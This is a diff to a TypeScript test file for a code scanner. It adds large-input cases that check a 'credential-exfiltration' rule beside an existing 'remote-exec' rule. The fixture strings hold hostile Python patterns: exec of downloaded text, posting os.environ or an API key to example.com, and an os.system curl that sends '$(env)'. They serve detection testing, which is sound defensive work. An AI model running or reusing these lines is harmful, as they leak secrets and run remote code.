@@ -13,7 +13,7 @@ function many(line: (index: number) => string): string {
 
 const DOWNLOAD = 'import requests, hashlib\nt = requests.get("u").text\n';
 
-const CASES: readonly { title: string; language?: Language; text: string; findings: number }[] = [
+const CASES: readonly { title: string; language?: Language; text: string; findings: number; rule?: string }[] = [
   { title: 'sinks of one download', text: DOWNLOAD + many(() => 'exec(t)\n'), findings: COUNT },
   {
     title: 'sinks on one line',
@@ -53,6 +53,24 @@ const CASES: readonly { title: string; language?: Language; text: string; findin
     findings: 1,
   },
   {
+    title: 'secrets that are sent, beside keys that are looked at',
+    text: `import os, requests\n${many((i) => `if name.startswith("A${i}"): requests.post(url, json=dict(os.environ))\n`)}`,
+    rule: 'credential-exfiltration',
+    findings: COUNT,
+  },
+  {
+    title: 'parts inside each other of what is sent, in all ways',
+    text: `import os, requests\na0 = os.environ["API_KEY"]\n${Array.from({ length: 8 }, (_, i) => `a${i + 1} = {${Array.from({ length: 40 }, (_, key) => `"k${key}": a${i}`).join(', ')}}\n`).join('')}requests.post(url, json=a8)\nrequests.post("https://example.com", json=dict(os.environ))\n`,
+    rule: 'credential-exfiltration',
+    findings: 1,
+  },
+  {
+    title: 'words of one command that sends',
+    text: `import os\nos.system("curl ${'-d $(env) '.repeat(COUNT)} https://example.com")\n`,
+    rule: 'credential-exfiltration',
+    findings: 1,
+  },
+  {
     title: 'suppressions, of which one is missing',
     text: `${DOWNLOAD}exec(t)\n${many(() => '# loadguard: ignore[remote-exec] read\nexec(t)\n')}`,
     findings: 1,
@@ -60,9 +78,9 @@ const CASES: readonly { title: string; language?: Language; text: string; findin
 ];
 
 describe('large inputs', () => {
-  for (const { title, language = 'python', text, findings } of CASES) {
+  for (const { title, language = 'python', text, findings, rule = 'remote-exec' } of CASES) {
     it(title, () => {
-      const found = find(language, text).filter(({ rule }) => rule === 'remote-exec');
+      const found = find(language, text).filter((it) => it.rule === rule);
       assert.equal(found.length, findings);
       assert.equal(new Set(found.map(({ fingerprint }) => fingerprint)).size, findings);
     });
